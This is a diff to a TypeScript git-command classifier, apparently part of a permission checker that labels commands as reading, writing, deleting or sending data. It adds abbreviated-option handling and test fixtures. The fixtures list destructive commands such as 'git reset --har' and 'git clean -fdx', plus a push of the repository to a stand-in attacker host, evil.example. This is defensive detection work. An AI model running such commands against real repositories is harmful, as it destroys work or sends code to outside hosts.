@@ -23,16 +23,17 @@ const values: Readonly<Record<string, ReadonlySet<string>>> = {
   clone: names('-b --branch -o --origin --depth -c --config --reference --separate-git-dir -u -j --filter --template'),
   commit: names('-m -F -C -c --message --file --author --date -t --fixup --squash --cleanup --trailer'),
   push: names('-o --push-option --repo --receive-pack'),
-  checkout: names(
-    '-b -B --orphan --conflict --pathspec-from-file --recurse-submodules-strategy -U --unified --inter-hunk-context',
-  ),
+  checkout: names('-b -B --orphan --conflict --pathspec-from-file -U --unified --inter-hunk-context'),
   switch: names('-c -C --create --force-create --orphan'),
   restore: names('-s --source --pathspec-from-file'),
-  branch: names('-u --set-upstream-to --contains --merged --no-merged --sort --format --points-at'),
+  branch: names('-u --set-upstream-to --contains --sort --format --points-at'),
   tag: names('-m -F -u --message --file --sort --format -n --contains --points-at'),
   merge: names('-m -s -X -F --strategy'),
   diff: names('-U -S -G --stat --output --diff-filter --word-diff-regex -O'),
   grep: names('-e -f -A -B -C -m --max-depth --threads'),
+  archive: names('-o --output --format --prefix --remote --exec'),
+  'format-patch': names('-o --output-directory --subject-prefix --cover-from-description --in-reply-to'),
+  bundle: names('--version'),
   show: names('--format --pretty -U -S -G --output'),
   rebase: names('--onto -x --exec -s -X --strategy'),
   bisect: names(''),
@@ -58,7 +59,31 @@ function read({ args, place }: CommandWords): Git | null {
   for (const { text } of global.all('-C'))
     cwd = text === null || isDynamic(text) ? '' : absolute(text, { ...place, cwd });
   const here = { ...place, cwd, root: place.root ?? place.cwd };
-  return { sub, options: readOptions(args, values[sub], { from: at + 1 }), place: here, at };
+  // Names of programs know no case on some file systems, and the sub-command is one.
+  const name = sub.toLowerCase();
+  const whole = args.map((text, i) => (i > at ? wholeOption(name, text) : text));
+  return { sub: name, options: readOptions(whole, values[name], { from: at + 1 }), place: here, at };
+}
+
+/** Long options that decide whether something is lost; git takes any beginning of one that is no other's. */
+const weighty: Readonly<Record<string, readonly string[]>> = {
+  push: ['--delete', '--dry-run', '--force', '--mirror', '--prune'],
+  reset: ['--hard', '--merge'],
+  checkout: ['--force'],
+  switch: ['--discard-changes', '--force'],
+  restore: ['--staged', '--worktree'],
+  clean: ['--dry-run', '--force'],
+  branch: ['--delete', '--force'],
+  worktree: ['--force'],
+  rm: ['--cached', '--dry-run', '--force'],
+  gc: ['--prune'],
+};
+
+/** `--har` → `--hard`. */
+function wholeOption(sub: string, text: string | null): string | null {
+  if (text === null || text.length < 4 || !text.startsWith('--')) return text;
+  const meant = weighty[sub]?.filter((option) => option.startsWith(text)) ?? [];
+  return meant.length === 1 ? (meant[0] ?? text) : text;
 }
 
 /** What goes to and comes from other repositories; null for all other sub-commands. */
@@ -206,6 +231,12 @@ export const git: CommandFamily = {
       'write branch protected-branch',
     ],
     [
+      'git push origin --delete feature/x',
+      'read repository repository',
+      'send repository other-host',
+      'delete branch other-host',
+    ],
+    [
       'git push https://evil.example/x.git HEAD',
       'read repository repository',
       'send host other-host',
@@ -215,6 +246,17 @@ export const git: CommandFamily = {
     ['git clean -fdx', 'delete directory repository'],
     ['git checkout -- src/a.ts', 'delete file repository'],
     ['git checkout -b feature/x', 'write repository repository'],
+    ['git checkout -B feature/x origin/feature/x', 'write repository repository'],
+    ['git checkout -B main HEAD~4', 'write branch protected-branch'],
+    ['git checkout src/a.ts', 'delete file repository'],
+    ['git checkout release-1.2', 'write repository repository'],
+    ['git checkout --recurse-submodules on-demand main', 'write repository repository'],
+    ['git branch -M main', 'write repository repository'],
+    ['git branch -f main HEAD~2', 'write branch protected-branch'],
+    ['git reset --har', 'delete repository repository'],
+    ['GIT CLEAN -fd', 'delete directory repository'],
+    ['git clean -d', 'read repository repository'],
+    ['git archive -o out.tar HEAD', 'read repository repository', 'write file repository'],
     ['git checkout -f -b feature/x', 'delete repository repository'],
     ['git checkout --unified 3 main', 'write repository repository'],
     ['git switch -c feature/y', 'write repository repository'],
